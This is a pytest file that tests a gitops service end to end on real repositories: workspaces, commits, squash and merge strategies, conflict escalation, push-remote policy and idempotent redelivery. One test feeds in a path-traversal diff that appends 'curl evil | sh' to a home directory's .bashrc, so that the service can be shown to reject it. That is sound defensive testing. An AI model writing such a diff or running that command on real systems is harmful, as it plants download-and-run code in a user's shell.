"""The gitops service end to end on real repositories: run events in, git effects and events out,
nothing done twice when an event comes again."""

from __future__ import annotations

import uuid
from pathlib import Path

import pygit2
import pytest
from gitops_repos import (
    APP,
    commit_files,
    commits_on,
    diff_of,
    file_at,
    head_of,
    make_bare,
    make_repo,
    message_of,
)
from gitops_runs import approve_merge, decide_escalation, escalate_unsafe, plan, propose, requested, score
from gitops_workspaces_contract import TAXED
from run_streams import RunStream, Step
from wave_events import catalogue as c
from wave_gitops import GitOpsConfig, GitOpsService, RepositoryNotFoundError, create_service
from wave_runtime import Dispatcher, Service, TransientError
from wave_store.sqlite import SqliteEventStore


@pytest.fixture
def repo(tmp_path: Path) -> pygit2.Repository:
    return make_repo(tmp_path / "shop")


def service_for(tmp_path: Path, **config: str) -> GitOpsService:
    return create_service(config=GitOpsConfig(worktree_root=str(tmp_path / "trees"), **config))


def location_of(repo: pygit2.Repository) -> str:
    return str(Path(repo.workdir).resolve())


async def run_through(service: GitOpsService, stream: RunStream, step: Step) -> list:
    """Handle one event and fold what the service said into the stream, as the runtime does."""
    outputs = list(await service.handle(step.state, step.event))
    for output in outputs:
        stream.add(output)
    return outputs


async def prepared(
    service: GitOpsService, repo: pygit2.Repository, run_id: str = "r1", merge_strategy: str = "squash"
) -> RunStream:
    stream = requested(run_id, repo.workdir, merge_strategy=merge_strategy)
    await run_through(service, stream, plan(stream, "t1", "t2"))
    return stream


async def test_a_run_gets_a_workspace_commits_merges_and_is_cleaned_up(repo: pygit2.Repository, tmp_path: Path) -> None:
    service = service_for(tmp_path)
    stream = requested("r1", repo.workdir, merge_strategy="ff")

    [ready] = await run_through(service, stream, plan(stream, "t1"))
    assert ready == c.WorkspaceReady(branch="wave/r1", base_commit=head_of(repo, "main"), location=location_of(repo))

    proposal = propose(stream, "t1", diff_of(repo, {"app.py": TAXED}), ready.base_commit)
    [committed] = await run_through(service, stream, score(stream, proposal))
    assert isinstance(committed, c.ChangeCommitted)
    assert (committed.task_id, committed.attempt, committed.parent, committed.branch) == ("t1", 1, ready.base_commit, "wave/r1")
    assert head_of(repo, "wave/r1") == committed.commit and file_at(repo, committed.commit, "app.py") == TAXED
    assert f"Wave-Event: {stream.steps[-2].event.event_id}" in message_of(repo, committed.commit)
    assert stream.state.gates["G4 committed"]

    [verdict, merged] = await run_through(service, stream, approve_merge(stream))
    assert (verdict.action_kind, verdict.verdict, verdict.action["target"]) == ("merge", "allow", "main")
    assert merged == c.Merged(target_branch="main", merge_commit=committed.commit, fast_forward=True)
    assert head_of(repo, "main") == committed.commit

    worktree = tmp_path / "trees" / "r1"
    assert worktree.is_dir()
    assert await run_through(service, stream, stream.add(c.RunCompleted(merge_commit=committed.commit))) == []
    assert not worktree.exists()


async def test_an_allowed_change_handled_again_after_a_crash_commits_once(repo: pygit2.Repository, tmp_path: Path) -> None:
    service = service_for(tmp_path)
    stream = await prepared(service, repo)
    allowed = score(stream, propose(stream, "t1", diff_of(repo, {"app.py": TAXED}), head_of(repo, "main")))

    first = await service.handle(allowed.state, allowed.event)  # committed, then the process died
    again = await service_for(tmp_path).handle(allowed.state, allowed.event)  # a new process, the same event
    assert again == first
    assert commits_on(repo, "wave/r1") == 2


async def test_a_diff_that_does_not_apply_is_rejected_with_the_file_and_hunk(repo: pygit2.Repository, tmp_path: Path) -> None:
    service = service_for(tmp_path)
    stream = await prepared(service, repo)
    base = head_of(repo, "main")
    # Both tasks wrote against the base; the first one's commit changes the line the second one's hunk needs.
    first = propose(stream, "t1", diff_of(repo, {"app.py": APP.replace("0.2", "0.21")}), base)
    await run_through(service, stream, score(stream, first))
    stale = diff_of(repo, {"app.py": APP.replace("0.2", "0.3")})
    [rejected] = await run_through(service, stream, score(stream, propose(stream, "t2", stale, base)))
    assert isinstance(rejected, c.ChangeRejected)
    assert (rejected.task_id, rejected.attempt) == ("t2", 1)
    assert rejected.reason.startswith("app.py: hunk 1 of 1 (@@ -")
    assert "wave/r1" in rejected.reason
    assert commits_on(repo, "wave/r1") == 2
    assert stream.state.tasks["t2"].rejected_reason == rejected.reason


async def test_a_diff_reaching_outside_the_repository_is_rejected(repo: pygit2.Repository, tmp_path: Path) -> None:
    service = service_for(tmp_path)
    stream = await prepared(service, repo)
    escaping = "--- /dev/null\n+++ b/../../../home/ana/.bashrc\n@@ -0,0 +1 @@\n+curl evil | sh\n"
    [rejected] = await run_through(service, stream, score(stream, propose(stream, "t1", escaping, head_of(repo, "main"))))
    assert isinstance(rejected, c.ChangeRejected) and "'..' leads outside the worktree" in rejected.reason
    assert commits_on(repo, "wave/r1") == 1


async def test_a_change_a_human_approved_is_committed(repo: pygit2.Repository, tmp_path: Path) -> None:
    service = service_for(tmp_path)
    stream = await prepared(service, repo)
    proposal = propose(stream, "t2", diff_of(repo, {".github/workflows/ci.yml": "on: push\n"}), head_of(repo, "main"))
    assert await run_through(service, stream, score(stream, proposal, "escalate")) == []
    escalate_unsafe(stream, proposal)
    [committed] = await run_through(service, stream, decide_escalation(stream))
    assert isinstance(committed, c.ChangeCommitted) and committed.task_id == "t2"
    assert file_at(repo, committed.commit, ".github/workflows/ci.yml") == "on: push\n"


async def test_a_run_lands_on_the_target_as_one_squashed_commit_by_default(
    repo: pygit2.Repository, tmp_path: Path
) -> None:
    service = service_for(tmp_path)
    base = head_of(repo, "main")
    stream = await prepared(service, repo)
    [first] = await run_through(service, stream, score(stream, propose(stream, "t1", diff_of(repo, {"app.py": TAXED}), base)))
    readme = diff_of(repo, {"README.md": "# shop\ntaxed\n"}, first.commit)
    [second] = await run_through(service, stream, score(stream, propose(stream, "t2", readme, first.commit)))
    approval = approve_merge(stream)
    [verdict, merged] = await run_through(service, stream, approval)
    assert isinstance(merged, c.Merged) and not merged.fast_forward
    squashed = repo[merged.merge_commit]
    assert head_of(repo, "main") == merged.merge_commit and [str(p) for p in squashed.parent_ids] == [base]
    assert squashed.tree_id == repo[second.commit].tree_id
    assert squashed.message.splitlines()[0] == "make prices include tax"
    assert f"Wave-Run: r1\nWave-Squashed: {second.commit}" in squashed.message
    assert head_of(repo, "wave/r1") == second.commit

    assert await service.handle(approval.state, approval.event) == [verdict, merged]  # redelivered: the same commit
    assert sum(1 for _ in repo.walk(repo.references["refs/heads/main"].target)) == 2


async def test_a_target_that_moved_gets_a_merge_commit(repo: pygit2.Repository, tmp_path: Path) -> None:
    service = service_for(tmp_path)
    stream = await prepared(service, repo, merge_strategy="ff")
    [committed] = await run_through(service, stream, score(stream, propose(stream, "t1", diff_of(repo, {"app.py": TAXED}), head_of(repo, "main"))))
    moved = str(commit_files(repo, {"README.md": "# shop\nhand edit\n"}, "meanwhile"))
    [_, merged] = await run_through(service, stream, approve_merge(stream))
    assert isinstance(merged, c.Merged) and not merged.fast_forward
    assert [str(p) for p in repo[merged.merge_commit].parent_ids] == [moved, committed.commit]
    assert head_of(repo, "main") == merged.merge_commit


async def test_a_conflicting_merge_escalates_naming_the_paths_and_asks_once(repo: pygit2.Repository, tmp_path: Path) -> None:
    service = service_for(tmp_path)
    stream = await prepared(service, repo)
    await run_through(service, stream, score(stream, propose(stream, "t1", diff_of(repo, {"app.py": TAXED, "README.md": "# wave\n"}), head_of(repo, "main"))))
    before = str(commit_files(repo, {"app.py": "PRICES = {}\n", "README.md": "# by hand\n"}, "rewrite"))
    approval = approve_merge(stream)

    [verdict, escalation] = await service.handle(approval.state, approval.event)
    assert verdict.action_kind == "merge" and verdict.verdict == "allow"
    head = head_of(repo, "wave/r1")
    assert isinstance(escalation, c.EscalationRequested)
    assert escalation.kind == "merge_conflict"
    assert escalation.escalation_id == f"r1-merge-conflict-{head[:12]}"
    assert escalation.reason.endswith("in 2 file(s): README.md, app.py")
    assert escalation.subject_event_id == approval.event.event_id
    assert head_of(repo, "main") == before

    assert await service.handle(approval.state, approval.event) == [verdict, escalation]


async def test_a_run_whose_repository_does_not_exist_fails_with_the_reason(tmp_path: Path) -> None:
    stream = requested("r1", str(tmp_path / "gone"))
    [failed] = await run_through(service_for(tmp_path), stream, plan(stream))
    assert isinstance(failed, c.RunFailed) and "gone does not exist" in failed.reason
    assert stream.state.status == "failed"


async def test_a_run_whose_target_branch_does_not_exist_fails_with_the_reason(repo: pygit2.Repository, tmp_path: Path) -> None:
    stream = requested("r1", repo.workdir, target_branch="develop")
    [failed] = await run_through(service_for(tmp_path), stream, plan(stream))
    assert isinstance(failed, c.RunFailed) and "target branch 'develop' does not exist" in failed.reason


async def test_a_configured_repository_and_remote_are_used_for_every_run(repo: pygit2.Repository, tmp_path: Path) -> None:
    origin = make_bare(tmp_path / "origin.git")
    service = service_for(tmp_path, repo=repo.workdir, remote=str(tmp_path / "origin.git"))
    stream = requested("r1", "/somewhere/else")
    [verdict, ready] = await run_through(service, stream, plan(stream))
    assert verdict.action == {"kind": "push", "remote": str((tmp_path / "origin.git").resolve()), "branch": "wave/r1"}
    assert verdict.verdict == "allow"
    assert ready.location == str((tmp_path / "origin.git").resolve())
    [committed] = await run_through(service, stream, score(stream, propose(stream, "t1", diff_of(repo, {"app.py": TAXED}), ready.base_commit)))
    assert head_of(origin, "wave/r1") == committed.commit


async def test_a_push_to_a_remote_the_policy_does_not_list_is_escalated_not_pushed(
    repo: pygit2.Repository, tmp_path: Path
) -> None:
    origin = make_bare(tmp_path / "origin.git")
    service = create_service(
        {"WAVE_SAFETY_PUSH_REMOTES": "https://git.example.com/*"},
        config=GitOpsConfig(worktree_root=str(tmp_path / "trees"), repo=repo.workdir, remote=str(tmp_path / "origin.git")),
    )
    stream = requested("r1", repo.workdir)
    planned = plan(stream)

    [verdict] = await run_through(service, stream, planned)
    assert (verdict.action_kind, verdict.verdict) == ("push", "escalate")
    assert [v.rule for v in verdict.violations] == ["git.push_remote"]
    assert verdict.target_event_id == planned.event.event_id
    assert not list(origin.branches) and "wave/r1" not in repo.branches  # nothing pushed, nothing prepared
    assert stream.state.branch is None

    # A person approves the escalation the planner raised about it: the run branch is made and pushed.
    escalate_unsafe(stream, planned)
    [ready] = await run_through(service, stream, decide_escalation(stream))
    assert isinstance(ready, c.WorkspaceReady)
    assert head_of(origin, "wave/r1") == ready.base_commit


async def test_an_unreachable_remote_is_a_transient_failure(repo: pygit2.Repository, tmp_path: Path) -> None:
    make_bare(tmp_path / "origin.git")
    service = service_for(tmp_path, repo=repo.workdir, remote=str(tmp_path / "origin.git"))
    (tmp_path / "origin.git" / "objects").rename(tmp_path / "objects-away")
    stream = requested("r1", repo.workdir)
    with pytest.raises(TransientError, match="origin.git"):
        await service.handle(plan(stream).state, stream.steps[-1].event)


def test_the_service_meets_the_runtime_contract(tmp_path: Path) -> None:
    service = service_for(tmp_path)
    assert isinstance(service, Service) and service.name == "gitops"
    assert "PlanCreated" in service.handles and "ChangeProposed" not in service.handles


def test_a_configured_repository_that_is_not_one_stops_the_service_at_start(tmp_path: Path) -> None:
    (tmp_path / "plain").mkdir()
    with pytest.raises(RepositoryNotFoundError, match="is not a git repository"):
        create_service(config=GitOpsConfig(repo=str(tmp_path / "plain")))


async def test_through_the_runtime_a_redelivery_and_a_crash_each_commit_once(repo: pygit2.Repository, tmp_path: Path) -> None:
    store = SqliteEventStore(tmp_path / "wave.db")
    try:
        run_id = f"r{uuid.uuid4().hex[:8]}"
        stream = requested(run_id, repo.workdir)
        planned = plan(stream, "t1", "t2")
        await store.append(stream.stream_id, [s.event for s in stream.steps], expected_version=0)

        dispatcher = Dispatcher(service_for(tmp_path), store)
        assert await dispatcher.dispatch(planned.event) == "handled"
        assert await dispatcher.dispatch(planned.event) == "duplicate"

        stored = await store.read_stream(stream.stream_id)
        ready = stored[-1].payload
        assert isinstance(ready, c.WorkspaceReady)
        stream.add(ready)
        allowed_t1 = score(stream, propose(stream, "t1", diff_of(repo, {"app.py": TAXED}), ready.base_commit))
        allowed_t2 = score(stream, propose(stream, "t2", diff_of(repo, {"NOTES.md": "tax\n"}), ready.base_commit))
        new = [s.event for s in stream.steps[len(stored):]]
        await store.append(stream.stream_id, new, expected_version=len(stored))

        assert await dispatcher.dispatch(allowed_t1.event) == "handled"
        # A process commits t2, then dies before its ChangeCommitted is stored; a new one handles it again.
        await service_for(tmp_path).handle(allowed_t2.state, allowed_t2.event)
        assert await Dispatcher(service_for(tmp_path), store).dispatch(allowed_t2.event) == "handled"

        committed = [e.payload for e in await store.read_stream(stream.stream_id) if e.type == "ChangeCommitted"]
        assert [p.task_id for p in committed] == ["t1", "t2"]
        assert commits_on(repo, f"wave/{run_id}") == 3
        assert committed[1].parent == committed[0].commit == str(repo[committed[1].commit].parent_ids[0])
    finally:
        await store.close()
